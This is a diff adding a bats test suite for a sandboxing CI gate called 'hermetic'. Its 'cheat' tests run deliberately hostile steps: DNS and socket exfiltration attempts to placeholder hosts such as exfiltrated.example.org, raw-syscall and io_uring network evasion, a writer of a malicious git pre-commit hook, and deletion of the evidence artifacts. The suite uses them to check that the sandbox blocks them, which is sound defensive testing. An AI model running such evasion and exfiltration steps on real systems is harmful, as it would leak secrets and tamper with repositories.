@@ -1,0 +1,378 @@
+#!/usr/bin/env bats
+# The gate as its users see it: hermetic gate, with steps that are honest and steps that cheat.
+
+# shellcheck disable=SC2016,SC2030,SC2031,SC2119,SC2120 # what is quoted is for inside; each test is a shell of its own
+
+bats_require_minimum_version 1.5.0
+
+setup() {
+  mkdir -p "$BATS_TEST_TMPDIR/w"
+  cd "$BATS_TEST_TMPDIR/w" || return
+  unset GITHUB_ACTIONS GITHUB_SHA GITHUB_STEP_SUMMARY CI_COMMIT_SHA GITLAB_CI
+  git init --quiet .
+  git -c user.email=a@example.org -c user.name=a commit --quiet --allow-empty -m first
+  policy=$BATS_TEST_TMPDIR/policy.yml
+}
+
+hermetic() { "$HERMETIC_PROGRAM" "$@"; }
+
+# Header of a policy; the steps follow on standard input.
+write_policy() {
+  printf 'schema_version: "%s"\nscope: {default_shell: bash}\n' "${1:-1}" >"$policy"
+  cat >>"$policy"
+}
+
+# Even if the sandbox failed, nothing would leave: an empty network is around it all.
+in_empty_network() {
+  if [ "$(id -u)" = 0 ]; then unshare --net -- "$@"; else unshare --user --map-current-user --net -- "$@"; fi
+}
+
+gate() { in_empty_network "$HERMETIC_PROGRAM" gate --policy "$policy" --out "$BATS_TEST_TMPDIR/out" "$@"; }
+
+# One step with this command, as a file, so that nothing has to be quoted.
+cheat() {
+  printf '%s\n' "$2" >"cheat.$1"
+  write_policy <<EOF
+hermetic_steps:
+  - id: cheat
+    command: $1 cheat.$1
+EOF
+  run -1 gate
+}
+
+breached() { [[ $output == *"$1"* ]] && grep -q "\"rule\":\"$2\"" "$BATS_TEST_TMPDIR/out/report.json"; }
+
+@test "the policy of the runbook runs unchanged" {
+  mkdir -p docs/ci
+  cat >docs/ci/HERMETIC_CI_POLICY.yml <<'EOF'
+schema_version: "1"
+scope:
+  default_shell: bash
+hermetic_steps:
+  - id: lint
+    description: looks at the sources
+    command: test -d .git && echo "$NO_NETWORK_LISTEN"
+    env:
+      NO_NETWORK_LISTEN: "1"
+    allow:
+      outbound_hosts: []
+      outbound_ports: []
+      listen_ports: []
+  - id: unit
+    command: |
+      mkdir -p dist
+      echo built >dist/result
+diagnostics:
+  capture_process_tree: true
+  capture_open_sockets: true
+  max_log_bytes: 100000
+output:
+  out_dir: artifacts/governance/hermetic-ci/${sha}
+EOF
+  hermetic gate
+  out=artifacts/governance/hermetic-ci/$(git rev-parse HEAD)
+  for file in report.json report.md report.html report.sarif junit.xml attestations.intoto.jsonl \
+    logs/lint/{stdout.txt,stderr.txt,events.jsonl,process_tree.json,listeners.json,network.json}; do
+    [ -e "$out/$file" ]
+  done
+  [ "$(cat "$out/logs/lint/stdout.txt")" = 1 ]
+  [ "$(cat dist/result)" = built ]
+  hermetic verify-evidence "$out"
+}
+
+@test "two runs of a commit leave the same stable files, whatever the order of the steps" {
+  write_policy <<'EOF'
+hermetic_steps:
+  - {id: one, command: echo one}
+  - {id: two, command: "echo $RANDOM; date +%N"}
+  - {id: three, command: "python3 -c 'import socket; socket.socket().connect_ex((\"127.0.0.1\", 9))'"}
+EOF
+  hermetic key new ../key
+  run -1 gate --key ../key
+  mv ../out ../first
+  run -1 gate --key ../key --jobs 3
+  for file in report.json report.md report.sarif junit.xml attestations.intoto.jsonl gl-code-quality.json; do
+    cmp "../first/$file" "../out/$file"
+  done
+  hermetic diff ../first ../out
+  hermetic verify-evidence ../out --key ../key.pub
+}
+
+@test "a step that fails, fails the gate; exit codes are 0, 1 and 2" {
+  write_policy <<<'hermetic_steps: [{id: good, command: "true"}]'
+  gate
+  write_policy <<<'hermetic_steps: [{id: bad, command: exit 7}]'
+  run -1 gate
+  [[ $output == *'ended with exit code 7'* ]]
+  write_policy <<<'hermetic_steps: [{id: bad, comand: exit 7}]'
+  run -2 gate
+  [[ $output == *"policy.yml:3:28: unknown key 'comand' in 'step'"*"did you mean 'command'?"* ]]
+  run -2 gate --step none
+  run -2 hermetic gate --policy /no/such/file
+}
+
+@test "errors of a policy name file, line, column and remedy" {
+  while IFS='|' read -r steps message; do
+    write_policy <<<"$steps"
+    run -2 gate
+    [[ $output == *"$message"* ]] || { echo "$steps: $output"; false; }
+  done <<'EOF'
+hermetic_steps: []|policy.yml:3:17: 'hermetic_steps' is empty
+hermetic_steps: [{command: "true"}]|policy.yml:3:18: a step has no 'id'
+hermetic_steps: [{id: ../x, command: "true"}]|policy.yml:3:23: bad id '../x'
+hermetic_steps: [{id: a, command: "true"}, {id: a, command: "true"}]|policy.yml:3:44
+hermetic_steps: [{id: a}]|has no 'command'
+hermetic_steps: [{id: a, command: "true", allow: {outbound_hosts: ["*"]}}]|policy.yml:3:68
+hermetic_steps: [{id: a, command: "true", allow: {outbound_ports: [443]}}]|would open the port of every host
+hermetic_steps: [{id: a, command: "true", allow: {listen_ports: [70000]}}]|policy.yml:3:66
+hermetic_steps: [{id: a, command: "true", needs: [b]}]|unknown key 'needs'
+EOF
+  printf 'schema_version: "3"\n' >"$policy"
+  run -2 gate
+  [[ $output == *'policy.yml:1:17: unknown schema_version'* ]]
+}
+
+@test "version 2: exceptions have an owner, a reason and an end" {
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - id: a
+    command: "true"
+    allow: {exceptions: [{listen: 8080, owner: ops}]}
+EOF
+  run -2 gate
+  [[ $output == *"policy.yml:6:26: the exception has no 'reason'"* ]]
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - id: a
+    command: "true"
+    allow: {exceptions: [{listen: 8080, owner: ops, reason: tests, expires: 2020-01-31}]}
+EOF
+  run -2 gate
+  [[ $output == *"'ops'"*'has expired on 2020-01-31'* ]]
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - id: a
+    command: python3 -c 'import socket; s = socket.socket(); s.bind(("127.0.0.1", 8080)); s.listen()'
+    allow: {exceptions: [{listen: 8080, owner: ops, reason: tests, expires: 2999-01-31}]}
+EOF
+  gate
+  grep -q '"owner":"ops"' ../out/report.json
+}
+
+@test "version 2: steps wait for those they need, and are skipped if those fail" {
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - {id: first, command: "sleep 0.2; echo made >made"}
+  - {id: second, command: cat made, needs: [first]}
+  - {id: bad, command: exit 1}
+  - {id: never, command: touch ran, needs: [bad]}
+EOF
+  run -1 gate --jobs 4
+  grep -q made ../out/logs/second/stdout.txt
+  [[ $output == *"needs 'bad', which did not pass"* ]]
+  [ ! -e ran ]
+  write_policy 2 <<<'hermetic_steps: [{id: a, command: "true", needs: [b]}, {id: b, command: "true"}]'
+  run -2 gate
+  [[ $output == *"which is no step above it"* ]]
+}
+
+@test "version 2: timeouts, limits, and a spec or target of its own" {
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - {id: slow, command: sleep 100, timeout: 300ms}
+  - {id: large, command: "head -c 2000000 /dev/zero >file", limits: {file_size: 1M}}
+EOF
+  run -1 gate
+  [[ $output == *'slow'*'ran out of time'* ]]
+  [[ $output == *'large'*'exit code 153'* ]]
+  grep -q 'File size limit exceeded' ../out/logs/large/stderr.txt
+  mkdir ../p
+  mv "$policy" ../p/policy.yml
+  policy=../p/policy.yml
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - {id: own, spec: spec.yaml}
+  - {id: target, spec: targets.yaml, target: hello}
+EOF
+  printf 'version: 1\ncommand: [/bin/sh, -c, "echo own; test ! -e /etc/passwd-"]\ninputs: [/usr, /bin, /lib, /lib64]\n' >../p/spec.yaml
+  printf 'version: 1\ntargets: {hello: {command: [/bin/echo, target], inputs: [/usr, /bin, /lib, /lib64]}}\n' >../p/targets.yaml
+  gate
+  grep -q own ../out/logs/own/stdout.txt
+  grep -q target ../out/logs/target/stdout.txt
+}
+
+@test "audit: nothing is denied, all is told, and no step fails for it" {
+  python3 -c 'import socket, sys
+s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); print(s.getsockname()[1], flush=True)
+s.accept()' >port &
+  server=$!
+  for _ in {1..500}; do [ -s port ] && break || sleep 0.02; done
+  write_policy 2 <<EOF
+mode: audit
+hermetic_steps:
+  - id: a
+    command: python3 -c 'import socket; socket.create_connection(("127.0.0.1", $(cat port)))'
+EOF
+  run -0 hermetic gate --policy "$policy" --out ../out
+  wait "$server"
+  [[ $output == *"connect to 127.0.0.1:$(cat port)/tcp is not allowed"* ]]
+  grep -q '"assurance":"observed"' ../out/report.json
+  run -2 gate --require enforced
+}
+
+# --- steps that cheat ---
+
+@test "cheat: connect" {
+  cheat python3 'import socket; socket.socket().connect_ex(("192.0.2.1", 80))'
+  breached 'connect to 192.0.2.1:80/tcp' network-denied
+  [[ $output == *'by /usr/bin/python3'*'cheat.python3'* ]]
+}
+
+@test "cheat: sendmsg" {
+  cheat python3 'import socket
+try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([b"x"], [], 0, ("192.0.2.1", 9))
+except OSError: pass'
+  breached '192.0.2.1:9/udp' network-denied
+}
+
+@test "cheat: io_uring" {
+  cheat python3 'import ctypes; ctypes.CDLL(None).syscall(425, 8, ctypes.create_string_buffer(120))'
+  breached 'asked for io_uring' socket
+}
+
+@test "cheat: DNS by UDP" {
+  cheat python3 'import socket
+try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(
+    b"\0\7\1\0\0\1\0\0\0\0\0\0\6secret\7example\0\0\1\0\1", ("192.0.2.53", 53))
+except OSError: pass'
+  [[ $output == *secret.example* || $output == *192.0.2.53:53* ]]
+}
+
+@test "cheat: a name is looked up" {
+  cheat python3 'import socket
+try: socket.getaddrinfo("exfiltrated.example.org", 443)
+except OSError: pass'
+  [[ $output == *exfiltrated.example.org* || $output == *:53* ]]
+}
+
+@test "cheat: a listener on localhost" {
+  cheat python3 'import socket
+s = socket.socket()
+try: s.bind(("127.0.0.1", 8321)); s.listen()
+except OSError: pass'
+  breached 8321 listener
+}
+
+@test "cheat: a child that outlives the step" {
+  cheat bash 'setsid sleep 30 >/dev/null 2>&1 & disown'
+  breached 'left processes running, such as sleep' residue
+}
+
+@test "cheat: without an environment" {
+  cheat bash 'env -i /usr/bin/python3 -c "import socket; socket.socket().connect_ex((\"192.0.2.1\", 80))"'
+  breached 192.0.2.1:80 network-denied
+}
+
+@test "cheat: a static binary, and a raw system call" {
+  cat >raw.c <<'EOF'
+#include <netinet/in.h>
+#include <sys/syscall.h>
+#include <unistd.h>
+int main(void) {
+  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = 0x5000, .sin_addr = {0x010200c0}};
+  int fd = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
+  syscall(SYS_connect, fd, &to, sizeof to);
+  return 0;
+}
+EOF
+  cc -static -o raw raw.c
+  cheat bash ./raw
+  breached '192.0.2.1:80' network-denied
+  [[ $output == */raw* ]]
+}
+
+@test "cheat: another interpreter" {
+  cheat perl 'use Socket; socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in(80, inet_aton("192.0.2.1")))'
+  breached 192.0.2.1:80 network-denied
+}
+
+@test "cheat: git hooks, the evidence and the world outside the workspace stay as they are" {
+  echo precious >../precious
+  mkdir -p artifacts/old
+  echo evidence >artifacts/old/report.json
+  write_policy <<EOF
+hermetic_steps:
+  - id: cheat
+    command: |
+      echo evil >.git/hooks/pre-commit
+      echo evil >$BATS_TEST_TMPDIR/precious
+      echo evil >artifacts/old/report.json
+      rm -rf artifacts
+      mv artifacts elsewhere
+      true
+output: {out_dir: "artifacts/\${sha}"}
+EOF
+  hermetic gate --policy "$policy"
+  [ ! -e .git/hooks/pre-commit ]
+  [ "$(cat ../precious)" = precious ]
+  [ "$(cat artifacts/old/report.json)" = evidence ]
+  hermetic verify-evidence "artifacts/$(git rev-parse HEAD)"
+}
+
+# --- environment ---
+
+@test "a step gets a small environment, and secrets only by name" {
+  export AWS_SECRET_ACCESS_KEY=abcdefghij0123456789 HARMLESS=yes DATABASE_URL=postgres://u:hunter2hunter2@h/db
+  write_policy <<<'hermetic_steps: [{id: a, command: env}]'
+  gate
+  run ! grep -e AWS -e HARMLESS -e DATABASE ../out/logs/a/stdout.txt
+  grep -q '"AWS_SECRET_ACCESS_KEY"' ../out/logs/a/environment.json
+  write_policy 2 <<'EOF'
+hermetic_steps:
+  - {id: all, command: env, environment: {mode: sanitize, deny: [OTHER]}}
+  - {id: named, command: 'test "$AWS_SECRET_ACCESS_KEY" = abcdefghij0123456789', environment: {pass: [AWS_SECRET_ACCESS_KEY]}}
+EOF
+  export OTHER=x SNEAKY=https://user:hunter2hunter2@example.org/
+  gate
+  grep -q HARMLESS=yes ../out/logs/all/stdout.txt
+  run ! grep -e AWS -e DATABASE -e OTHER -e SNEAKY ../out/logs/all/stdout.txt
+  run ! grep -r -e hunter2hunter2 -e abcdefghij0123456789 ../out
+}
+
+# --- CI systems ---
+
+@test "GitHub gets annotations and a summary" {
+  write_policy <<'EOF'
+hermetic_steps:
+  - {id: a, command: "python3 -c 'import socket; socket.socket().connect_ex((\"192.0.2.1\", 80))'"}
+EOF
+  GITHUB_ACTIONS=true GITHUB_STEP_SUMMARY=$BATS_TEST_TMPDIR/summary run -1 --separate-stderr gate
+  [[ $output == *'::error file='*'policy.yml,line=4,title=hermetic gate%3A a::connect to 192.0.2.1:80/tcp was denied'* ]]
+  grep -q 'hermetic gate: fail' ../summary
+}
+
+@test "GitLab gets a code quality report" {
+  write_policy <<<'hermetic_steps: [{id: bad, command: exit 7}]'
+  run -1 gate
+  python3 - ../out/gl-code-quality.json <<'EOF'
+import json, sys
+entries = json.load(open(sys.argv[1]))
+assert [entry["severity"] for entry in entries] == ["blocker"], entries
+assert entries[0]["location"]["lines"]["begin"] == 3
+EOF
+}
+
+@test "Ctrl-C ends the steps and leaves nothing" {
+  write_policy <<<'hermetic_steps: [{id: slow, command: "touch started; sleep 1000"}, {id: next, command: "touch next"}]'
+  # A job in the background of a shell without job control ignores SIGINT: this one must not.
+  "$HERMETIC_PROGRAM" gate --policy "$policy" --out ../out 3>&- &
+  pid=$!
+  for _ in {1..500}; do [ -e started ] && break || sleep 0.02; done
+  kill -TERM "$pid"
+  status=0
+  wait "$pid" || status=$?
+  [ "$status" -eq 1 ]
+  [ ! -e next ]
+  hermetic verify-evidence ../out
+  [ ! -e ../.hermetic-evidence ]
+}
